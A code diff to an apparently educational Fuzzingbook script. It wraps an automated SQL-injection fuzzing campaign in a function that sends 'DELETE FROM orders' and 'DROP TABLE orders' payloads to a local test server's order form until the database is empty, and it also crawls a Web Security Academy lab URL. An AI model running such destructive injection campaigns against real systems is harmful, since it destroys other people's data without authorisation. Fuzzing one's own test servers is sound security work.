@@ -16,7 +16,13 @@ from fuzzingbook.Grammars import crange, is_valid_grammar, syntax_diagram, Gramm
 from fuzzingbook.Coverage import cgi_decode
 from fuzzingbook.MutationFuzzer import MutationFuzzer
 from pprint import pprint
+import os
 import sqlite3
+import sys
+
+sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)),
+                             "..", "Fuzzing_BreakingThingsWithRandomInputs"))
+from campaignStats import CampaignStats
 
 
 db = sqlite3.connect("./orders.db")
@@ -342,31 +348,65 @@ pprint(web_form_fuzzer.runs(web_form_runner, 10))
 print("")
 """
 
-crawlUrl = "https://0a7f008503f5d437c0150e4000770007.web-security-academy.net/"
-for url in crawl(crawlUrl):
-    pprint(url)
-"""
-#Automated web attacks
-
-html_miner = SQLInjectionGrammarMiner(str(http_text), sql_payload="DROP TABLE orders")
-injectionGrammar = html_miner.mine_grammar()
-#print possible injection grammar
-pprint(injectionGrammar)
-
-#check if litesql is empty
-print(orders_db_is_empty())
-
-sql_fuzzer = SQLInjectionFuzzer(httpd_url, "DELETE FROM orders")
-web_runner = WebRunner(httpd_url)
-trials = 1
-
-while True:
-    sql_fuzzer.run(web_runner)
-    if orders_db_is_empty():
-        break
-    trials += 1
-
-pprint(trials)
-pprint(orders_db_is_empty())
-"""
-
+def sql_injection_campaign(httpd_url: str, sql_payload: str = "DELETE FROM orders",
+                           stats: Optional[CampaignStats] = None,
+                           max_trials: Optional[int] = None) -> int:
+    """Fuzz the order form at `httpd_url` with SQL injections
+       until the orders database is empty (or `max_trials` ran).
+       Progress goes to `stats`. Return the number of trials."""
+    if stats is None:
+        stats = CampaignStats()
+    sql_fuzzer = SQLInjectionFuzzer(httpd_url, sql_payload)
+    web_runner = WebRunner(httpd_url)
+    trials = 1
+
+    while True:
+        url, outcome = sql_fuzzer.run(web_runner)
+        stats.execution()
+        if outcome == Runner.FAIL:
+            stats.crash()
+        if orders_db_is_empty():
+            stats.finding()
+            break
+        if max_trials is not None and trials >= max_trials:
+            break
+        trials += 1
+
+    stats.write()
+    return trials
+
+if __name__ == "__main__":
+    from webserver import start_httpd
+
+    # Importing the server recreates orders.db; look at the new one
+    db = sqlite3.connect("./orders.db")
+    httpd_process, httpd_url = start_httpd()
+    try:
+        # Place some orders, so that there is something to delete
+        web_runner = WebRunner(httpd_url)
+        order_fuzzer = GrammarFuzzer(ORDER_GRAMMAR)
+        for i in range(10):
+            web_runner.run(order_fuzzer.fuzz())
+
+        #Automated web attacks
+        http_text = requests.get(httpd_url).content
+        html_miner = SQLInjectionGrammarMiner(str(http_text), sql_payload="DROP TABLE orders")
+        injectionGrammar = html_miner.mine_grammar()
+        #print possible injection grammar
+        pprint(injectionGrammar)
+
+        #check if litesql is empty
+        print(orders_db_is_empty())
+
+        # Progress goes to sql-injection-status.json
+        stats = CampaignStats("sql-injection-status.json")
+        trials = sql_injection_campaign(httpd_url, "DELETE FROM orders", stats)
+        pprint(trials)
+        pprint(orders_db_is_empty())
+    finally:
+        httpd_process.terminate()
+        httpd_process.join()
+
+    crawlUrl = "https://0a7f008503f5d437c0150e4000770007.web-security-academy.net/"
+    for url in crawl(crawlUrl):
+        pprint(url)